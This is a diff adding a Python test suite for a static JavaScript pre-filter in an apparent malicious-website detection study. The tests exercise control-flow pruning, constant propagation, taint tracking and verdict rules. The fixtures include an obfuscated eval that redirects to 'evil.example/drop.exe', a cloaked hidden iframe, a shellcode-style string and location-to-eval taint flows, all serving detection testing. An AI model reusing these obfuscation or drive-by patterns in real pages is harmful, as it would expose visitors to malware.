@@ -1,0 +1,250 @@
+"""Tests for the repro.staticjs static pre-filter.
+
+Covers the four fact extractors (CFG reachability, constant
+propagation, taint tracking, capability scan), the rule engine's
+verdicts, the iterative ``Node.walk`` regression, and the
+behaviour-preservation contract: running the crawl pipeline with the
+static pre-filter on must produce exactly the same verdict set as the
+dynamic-only pipeline while skipping a substantial share of provably
+benign scripts.
+"""
+
+from repro import MalwareSlumsStudy, StudyConfig
+from repro.crawler import CrawlPipeline
+from repro.detection.heuristics import analyze_html
+from repro.jsengine import nodes as N
+from repro.jsengine.parser import parse
+from repro.obs import RunObserver
+from repro.staticjs import (
+    UNKNOWN,
+    VERDICT_BENIGN,
+    VERDICT_MALICIOUS,
+    VERDICT_NEEDS_DYNAMIC,
+    VERDICT_SUSPICIOUS,
+    analyze_script,
+    build_cfg,
+    find_taint_flows,
+    fold,
+    propagate,
+)
+
+
+class TestCfg:
+    def test_straight_line_is_fully_reachable(self):
+        program = parse("var a = 1; var b = a + 2; f(b);")
+        cfg = build_cfg(program.body)
+        assert not cfg.constant_pruned
+        assert cfg.unreachable_statements() == []
+
+    def test_constant_false_branch_is_pruned(self):
+        program = parse("if (false) { evil(); } ok();")
+        cfg = build_cfg(program.body)
+        assert cfg.constant_pruned
+        assert len(cfg.unreachable_statements()) == 1
+
+    def test_constant_guard_through_variable(self):
+        program = parse("var debug = false; if (debug) { evil(); }")
+        resolution = propagate(program)
+        cfg = build_cfg(program.body, resolution.constants)
+        assert cfg.constant_pruned
+        assert cfg.unreachable_statements()
+
+    def test_unknown_test_keeps_both_edges(self):
+        program = parse("if (x) { a(); } else { b(); }")
+        cfg = build_cfg(program.body)
+        assert not cfg.constant_pruned
+        assert cfg.unreachable_statements() == []
+
+    def test_while_false_body_is_pruned(self):
+        program = parse("while (0) { evil(); }")
+        cfg = build_cfg(program.body)
+        assert cfg.constant_pruned
+        assert cfg.unreachable_statements()
+
+    def test_do_while_body_always_runs(self):
+        program = parse("do { once(); } while (false);")
+        cfg = build_cfg(program.body)
+        assert cfg.unreachable_statements() == []
+
+
+class TestDataflow:
+    def test_fold_constant_expressions(self):
+        expr = parse("1 + 2 * 3;").body[0].expression
+        assert fold(expr) == 7.0
+        expr = parse("'a' + 'b' + 'c';").body[0].expression
+        assert fold(expr) == "abc"
+        expr = parse("x + 1;").body[0].expression
+        assert fold(expr) is UNKNOWN
+
+    def test_fromcharcode_folds_to_string(self):
+        expr = parse("String.fromCharCode(101, 118, 105, 108);").body[0].expression
+        assert fold(expr) == "evil"
+
+    def test_propagation_recovers_obfuscated_eval_payload(self):
+        # two obfuscation layers: an array join building a URL, then a
+        # string concatenation building the code handed to eval
+        source = (
+            "var parts = ['ht', 'tp:', '//evil.example/d', 'rop.exe'];\n"
+            "var url = parts.join('');\n"
+            "var code = \"window.location.href = '\" + url + \"';\";\n"
+            "eval(code);\n"
+        )
+        resolution = propagate(parse(source))
+        payloads = [p.value for p in resolution.eval_payloads]
+        assert payloads == [
+            "window.location.href = 'http://evil.example/drop.exe';"
+        ]
+
+    def test_reverse_join_obfuscation_resolves(self):
+        source = (
+            "var x = 'gro.live'.split('').reverse().join('');\n"
+            "document.write('<b>' + x + '</b>');\n"
+        )
+        resolution = propagate(parse(source))
+        assert [p.value for p in resolution.write_payloads] == ["<b>evil.org</b>"]
+
+
+class TestTaint:
+    def test_direct_source_to_eval(self):
+        flows = find_taint_flows(parse("eval(location.search);"))
+        assert [(f.source, f.sink) for f in flows] == [("location.search", "eval")]
+
+    def test_flow_through_variable(self):
+        flows = find_taint_flows(parse(
+            "var q = document.referrer; document.write(q);"))
+        assert len(flows) == 1
+        assert flows[0].source == "document.referrer"
+        assert flows[0].sink == "document.write"
+        assert flows[0].variable == "q"
+
+    def test_overwrite_clears_taint(self):
+        flows = find_taint_flows(parse(
+            "var q = location.hash; q = 'safe'; eval(q);"))
+        assert flows == []
+
+    def test_clean_script_has_no_flows(self):
+        assert find_taint_flows(parse("var a = 1; eval('x');")) == []
+
+
+class TestVerdicts:
+    def test_unreferenced_helper_is_benign(self):
+        report = analyze_script(
+            "function toggleMenu() {"
+            "  document.getElementById('m').style.display = 'block';"
+            "} var year = 2016;")
+        assert report.verdict == VERDICT_BENIGN
+        assert report.capabilities == []
+
+    def test_document_write_needs_dynamic(self):
+        report = analyze_script("document.write('<div>sponsored</div>');")
+        assert report.verdict == VERDICT_NEEDS_DYNAMIC
+        assert "document-write" in report.capabilities
+
+    def test_cloaked_payload_is_malicious(self):
+        report = analyze_script(
+            "var debug = false;"
+            "if (debug) { document.write('<iframe src=\"http://x/\" "
+            "style=\"display:none\"></iframe>'); }")
+        assert report.verdict == VERDICT_MALICIOUS
+        assert any(f.rule == "cloaked-payload" for f in report.findings)
+
+    def test_shellcode_literal_is_malicious(self):
+        report = analyze_script("var sc = '%u9090%u9090%u4141';")
+        assert report.verdict == VERDICT_MALICIOUS
+        assert any(f.rule == "shellcode-string" for f in report.findings)
+
+    def test_taint_flow_is_malicious(self):
+        report = analyze_script("eval(location.hash);")
+        assert report.verdict == VERDICT_MALICIOUS
+        assert any(f.rule == "taint-flow" for f in report.findings)
+
+    def test_obfuscated_eval_is_suspicious(self):
+        report = analyze_script("eval(unescape('alert%281%29'))")
+        assert report.verdict == VERDICT_SUSPICIOUS
+
+    def test_garbage_never_raises(self):
+        report = analyze_script("\x00\x00\x00{{{")
+        assert report.parse_failed
+        assert report.verdict == VERDICT_NEEDS_DYNAMIC
+
+
+class TestDeepWalk:
+    DEPTH = 5000
+
+    def _deep_chain(self):
+        node = N.NumberLiteral(1.0)
+        for _ in range(self.DEPTH):
+            node = N.Binary("+", node, N.NumberLiteral(1.0))
+        return node
+
+    def test_walk_is_iterative(self):
+        # a recursive walk() would exhaust the interpreter stack here
+        chain = self._deep_chain()
+        count = sum(1 for _ in chain.walk())
+        assert count == 2 * self.DEPTH + 1
+
+    def test_fold_handles_deep_plus_spine(self):
+        assert fold(self._deep_chain()) == float(self.DEPTH + 1)
+
+
+class TestAnalyzeHtmlIntegration:
+    BENIGN = (
+        "<html><body><script>function toggleMenu() {"
+        "document.getElementById('m').style.display = 'block';"
+        "}</script></body></html>"
+    )
+    ACTIVE = (
+        "<html><body><script>document.write('<div>ad</div>');"
+        "</script></body></html>"
+    )
+
+    def test_benign_page_skips_sandbox(self):
+        analysis = analyze_html(self.BENIGN)
+        assert analysis.sandbox_skipped
+        assert analysis.static_findings == []
+
+    def test_active_page_still_runs(self):
+        analysis = analyze_html(self.ACTIVE)
+        assert not analysis.sandbox_skipped
+        assert analysis.document_writes >= 1
+
+    def test_prefilter_off_never_skips(self):
+        analysis = analyze_html(self.BENIGN, static_prefilter=False)
+        assert not analysis.sandbox_skipped
+        assert analysis.static_findings == []
+
+
+class TestPrefilterEquality:
+    """The behaviour-preservation contract, end to end."""
+
+    SEED = 2016
+    SCALE = 0.004
+
+    def _run(self, static_prefilter):
+        study = MalwareSlumsStudy(StudyConfig(seed=self.SEED, scale=self.SCALE))
+        web = study.generate_web()
+        observer = RunObserver()
+        pipeline = CrawlPipeline(web, observer=observer,
+                                 static_prefilter=static_prefilter)
+        outcome = pipeline.run()
+        verdicts = {url: v.malicious for url, v in outcome.verdicts.items()}
+        return observer, verdicts
+
+    def test_same_verdict_set_with_substantial_skip_rate(self):
+        obs_on, verdicts_on = self._run(True)
+        obs_off, verdicts_off = self._run(False)
+
+        assert verdicts_on == verdicts_off
+
+        metrics = obs_on.metrics
+        analyzed = metrics.counter_total("staticjs.scripts")
+        skipped_scripts = metrics.counter_total("staticjs.sandbox.skipped_scripts")
+        skipped_pages = metrics.counter_total("staticjs.sandbox.skipped_pages")
+        assert analyzed > 0
+        assert skipped_pages > 0
+        # the acceptance bar: at least 30% of scripts proven benign
+        # enough to skip the sandbox entirely
+        assert skipped_scripts / analyzed >= 0.30
+
+        # the dynamic-only run must not touch the static analyzer
+        assert obs_off.metrics.counter_total("staticjs.scripts") == 0
